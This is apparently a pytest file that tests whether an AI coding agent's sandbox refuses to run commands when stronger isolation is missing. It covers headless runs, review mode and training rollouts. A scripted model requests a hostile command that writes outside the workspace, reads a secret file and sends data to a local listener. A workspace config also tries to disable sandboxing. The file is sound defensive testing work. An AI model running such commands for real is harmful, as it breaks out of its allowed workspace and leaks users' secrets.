"""Issue 14's hostile scenario, end to end in real subprocesses that probe the sandbox afresh: a
scripted model asks run_terminal for

    echo pwned > ../escaped2.txt; cat ../secret.txt; python3 -c '<connect to a local listener, send>'

on a machine whose `bwrap` is a stub that exits 1 (the `unshare` level), or whose `bwrap` and
`unshare` both are (the `none` level). Nothing may escape (no file outside the workspace, the
secret in neither the transcript nor the session log, nothing at the listener) through
`composer-agent run --yes`, through composer-lsp in review mode with a client that answers, and
in a rollout. Each run is paired with its control, the same scenario opted in
(`--allow-unsandboxed`, `allow_unsandboxed = true` in the user's config.toml): at `none` that
escapes all three ways, which shows the checks can fail; `unshare` contains this scenario on
machines like ours (its /tmp and network are private), so there the control shows the command
ran at that level where the fail-closed run refused it. The workspace's own
`.composer/config.toml` says `allow_unsandboxed = true` throughout, and is never honoured.

Run: .venv/bin/python -m pytest tests/agent/test_escape.py     (~8 subprocesses, seconds each)
"""

from __future__ import annotations

import asyncio
import json
import os
import socket
import subprocess
import sys
import textwrap
import uuid
from dataclasses import dataclass, field
from pathlib import Path

import pytest

ROOT = Path(__file__).resolve().parents[2]
sys.path.insert(0, str(ROOT / "tests" / "server"))

from lsp_client import start_client, stop_client  # noqa: E402
from no_sandbox import stubbed_path  # noqa: E402
from scripted_model import ScriptedModel  # noqa: E402

OPT_IN = "--allow-unsandboxed"
pytestmark = [pytest.mark.slow,
              pytest.mark.skipif(not sys.platform.startswith("linux"), reason="the stubs replace Linux's bwrap/unshare")]


@dataclass
class Scene:
    """One run's directories: `outside/secret.txt`, the workspace `outside/ws`, its session logs,
    and a listener on 127.0.0.1 that records what reaches it."""

    outside: Path
    secret: str
    listener: socket.socket
    received: bytes = b""
    runs: list[str] = field(default_factory=list)

    @property
    def ws(self) -> Path:
        return self.outside / "ws"

    @property
    def logs(self) -> Path:
        return self.outside.parent / f"{self.outside.name}-logs"

    @property
    def command(self) -> str:
        port = self.listener.getsockname()[1]
        connect = (f"import socket; s = socket.create_connection((\"127.0.0.1\", {port}), timeout=3); "
                   "s.sendall(b\"leak\"); s.close()")
        return f"echo pwned > ../escaped2.txt; cat ../secret.txt; python3 -c '{connect}'"

    def escapes(self, transcript: str) -> set[str]:
        """How the command got out: a file outside the workspace, the secret in the transcript
        or a session log, bytes at the listener."""
        self.listener.setblocking(False)
        while True:
            try:
                conn, _ = self.listener.accept()
            except BlockingIOError:
                break
            conn.settimeout(5)
            with conn:
                self.received += conn.recv(100)
        logs = "".join(p.read_text() for p in self.logs.rglob("*.jsonl"))
        found = {"file"} if (self.outside / "escaped2.txt").exists() else set()
        if self.secret in transcript or self.secret in logs:
            found.add("secret")
        return found | ({"network"} if self.received else set())


@pytest.fixture(params=["unshare", "none"])
def level(request) -> str:
    return request.param


@pytest.fixture
def machine(level: str, tmp_path: Path, monkeypatch: pytest.MonkeyPatch) -> dict[str, str]:
    """The environment of a machine where bubblewrap (and, for `none`, unshare) fails: stubs
    that exit 1 first on PATH, and an empty user config directory."""
    stubs = ("bwrap", "unshare") if level == "none" else ("bwrap",)
    env = {**os.environ, "PATH": stubbed_path(tmp_path / "stubs", *stubs), "XDG_CONFIG_HOME": str(tmp_path / "xdg"),
           "COMPOSER_INDEX": "off"}
    for key in ("PATH", "XDG_CONFIG_HOME"):
        monkeypatch.setenv(key, env[key])  # composer-lsp, started by pytest-lsp, inherits these
    return env


@pytest.fixture
def scene(tmp_path: Path):
    """A factory of fresh scenes (each run gets its own, so one run's escape cannot mask the next)."""
    made: list[Scene] = []

    def make(name: str) -> Scene:
        outside = tmp_path / name
        (outside / "ws" / ".composer").mkdir(parents=True)
        (outside / "ws" / ".composer" / "config.toml").write_text("allow_unsandboxed = true\n")
        secret = f"canary {uuid.uuid4().hex[:12]} in secret.txt"  # never redacted from logs
        (outside / "secret.txt").write_text(secret + "\n")
        listener = socket.socket()
        listener.bind(("127.0.0.1", 0))
        listener.listen(8)
        made.append(Scene(outside, secret, listener))
        return made[-1]

    yield make
    for s in made:
        s.listener.close()


def script(s: Scene) -> list[list[dict]]:
    return [[{"text": "Checking.", "tool_calls": [{"name": "run_terminal", "arguments": {"command": s.command}}]},
             {"text": "Done."}]]


def opt_in_config(env: dict[str, str]) -> None:
    path = Path(env["XDG_CONFIG_HOME"]) / "composer" / "config.toml"
    path.parent.mkdir(parents=True, exist_ok=True)
    path.write_text("allow_unsandboxed = true\n")


async def until(condition, timeout_s: float = 30) -> None:
    for _ in range(int(timeout_s / 0.05)):
        if condition():
            return
        await asyncio.sleep(0.05)
    raise AssertionError("condition not met in time")


def terminal_results(updates: list[dict]) -> list[dict]:
    return [u for u in updates if u.get("sessionUpdate") == "tool_call_update" and u.get("status") in ("completed", "failed")]


# ---- composer-agent run --yes ----------------------------------------------------------------


def agent_run(s: Scene, env: dict[str, str], *extra: str) -> tuple[list[dict], str]:
    with ScriptedModel(script(s)) as model:
        done = subprocess.run(
            [sys.executable, "-m", "agent.cli", "run", "--workspace", str(s.ws), "--endpoint", model.url,
             "--json", "--yes", "--log-dir", str(s.logs), *extra, "look around"],
            capture_output=True, text=True, env=env, cwd=ROOT, timeout=180)
    assert done.returncode == 0, done.stderr
    return [json.loads(line) for line in done.stdout.splitlines()], done.stderr


def test_headless_yes_refuses_the_command(level, machine, scene):
    control = scene("control")
    events, stderr = agent_run(control, machine, OPT_IN)
    [ran] = terminal_results(events)
    assert ran["rawOutput"]["isolation"] == level and "refused" not in ran["rawOutput"]
    if level == "none":
        assert control.escapes(json.dumps(events)) == {"file", "secret", "network"}

    s = scene("closed")
    events, stderr = agent_run(s, machine)
    assert s.escapes(json.dumps(events) + stderr) == set()
    assert f"sandbox isolation: {level}, weaker than bubblewrap" in stderr and OPT_IN in stderr
    [refused] = terminal_results(events)
    assert refused["status"] == "failed" and refused["rawOutput"]["refused"] is True
    text = refused["content"][0]["content"]["text"]
    assert f"the sandbox here is '{level}'" in text and OPT_IN in text and "allow_unsandboxed = true" in text
    summary = events[-1]
    assert summary["type"] == "summary" and summary["isolation"]["restricted"] is True


# ---- composer-lsp, review mode ---------------------------------------------------------------


class Reader(list):
    """A client's questions, answered as a person reading them would: a plain one is allowed, one
    that warns the sandbox is weaker than bubblewrap is rejected."""

    def __init__(self, client) -> None:
        super().__init__()
        self.client = client

    def append(self, params: dict) -> None:
        super().append(params)
        texts = [c["content"].get("text", "") for c in params["toolCall"].get("content", []) if c["type"] == "content"]
        warned = any("weaker than bubblewrap" in t for t in texts)
        self.client.permission_answer = "reject_once" if warned else "allow_once"


async def test_review_mode_asks_with_the_level_and_nothing_runs_unaccepted(level, machine, scene):
    closed, control = scene("closed"), scene("control")
    with ScriptedModel(script(closed)) as model:
        client = await start_client(closed.ws, model.url, closed.logs, "--mode", "review")
        try:
            client.permission_requests = Reader(client)
            status = await client.protocol.send_request_async("composer/isolation", {})
            assert status["level"] == level and status["restricted"] is True
            await until(lambda: client.messages)  # the window/showMessage warning after `initialized`
            assert any(level in m.message and "weaker" in m.message for m in client.messages)
            new = await client.protocol.send_request_async("session/new", {"cwd": str(closed.ws), "mcpServers": []})
            assert new["modes"]["currentModeId"] == "review"
            await client.protocol.send_request_async(
                "session/prompt", {"sessionId": new["sessionId"], "prompt": [{"type": "text", "text": "look around"}]})
            [asked] = client.permission_requests
            assert [o["kind"] for o in asked["options"]] == ["allow_once", "reject_once", "reject_always"]
            texts = [c["content"]["text"] for c in asked["toolCall"]["content"]]
            assert texts[0] == f"$ {closed.command}" and f"isolation '{level}'" in texts[1]
            transcript = json.dumps(client.updates)
            assert closed.escapes(transcript) == set()

            # the control, in the same server: the user's config.toml opts in (read per session)
            opt_in_config(machine)
            model.script = script(control)
            new = await client.protocol.send_request_async("session/new", {"cwd": str(control.ws), "mcpServers": []})
            await client.protocol.send_request_async(
                "session/prompt", {"sessionId": new["sessionId"], "prompt": [{"type": "text", "text": "look around"}]})
            _, again = client.permission_requests  # review mode still asks, now without the warning
            assert [c["content"]["text"] for c in again["toolCall"]["content"]] == [f"$ {control.command}"]
            updates = [n["update"] for n in client.updates if n["sessionId"] == new["sessionId"]]
            [ran] = terminal_results(updates)
            assert ran["rawOutput"]["isolation"] == level and ran["status"] == "completed"
            if level == "none":
                assert control.escapes(json.dumps(updates)) == {"file", "secret", "network"}
        finally:
            await stop_client(client)


# ---- rollouts --------------------------------------------------------------------------------

ROLLOUT = textwrap.dedent("""
    import asyncio, json, sys
    from pathlib import Path
    from agent.isolation import UnsandboxedError
    from agent.session import Session, SessionConfig
    from training.envs import Base, Environment, Scheduler

    closed, control, url, scratch = Path(sys.argv[1]), Path(sys.argv[2]), sys.argv[3], Path(sys.argv[4])

    async def refused(start, close):
        try:
            made = await start()
        except UnsandboxedError as err:
            return str(err)
        await close(made)  # a broken gate let it start: leave no mounts behind
        return None

    async def rollout(ws, **kw):
        config = SessionConfig(workspace=ws, endpoint=url, auto_allow=True, client="rollout", checkpoints=False,
                               index="off", repo_map_tokens=0, log_dir=Path(f"{ws.parent}-logs"), **kw)
        session = await Session.create(config)
        result = await session.prompt("look around")
        await session.aclose()
        return result.stop_reason

    async def main():
        sched = Scheduler(cpus=1, state_dir=scratch / "state", base_dir=scratch / "bases")
        env = lambda: Environment.create(Base.from_dir(closed), state_dir=scratch / "state")
        out = {"session": await refused(lambda: rollout(closed), lambda _: asyncio.sleep(0)),
               "environment": await refused(env, lambda made: made.close()),
               "scheduler": await refused(sched.start, lambda _: sched.close()),
               "control": await rollout(control, allow_unsandboxed=True)}
        print(json.dumps(out))

    asyncio.run(main())
""")


def test_a_rollout_refuses_to_start(level, machine, scene, tmp_path):
    closed, control = scene("closed"), scene("control")
    with ScriptedModel(script(control)) as model:
        done = subprocess.run([sys.executable, "-c", ROLLOUT, str(closed.ws), str(control.ws), model.url,
                               str(tmp_path / "scratch")], capture_output=True, text=True, env=machine, cwd=ROOT,
                              timeout=180)
        assert done.returncode == 0, done.stderr
        asked = len(model.requests)
    out = json.loads(done.stdout.splitlines()[-1])
    for what in ("session", "environment", "scheduler"):
        assert out[what] is not None and f"the sandbox here is '{level}'" in out[what] and OPT_IN in out[what], what
    assert "Refused to run this rollout" in out["session"]
    assert closed.escapes(done.stdout + done.stderr) == set()
    assert not (tmp_path / "scratch" / "state").exists()  # nothing was mounted or reaped
    assert out["control"] == "end_turn" and asked == 2  # only the control reached the model
    records = [json.loads(line) for p in control.logs.rglob("*.jsonl") for line in p.read_text().splitlines()]
    assert [r["data"]["isolation"] for r in records if r.get("type") == "tool_call"] == [level]
    if level == "none":
        assert control.escapes("") == {"file", "secret", "network"}
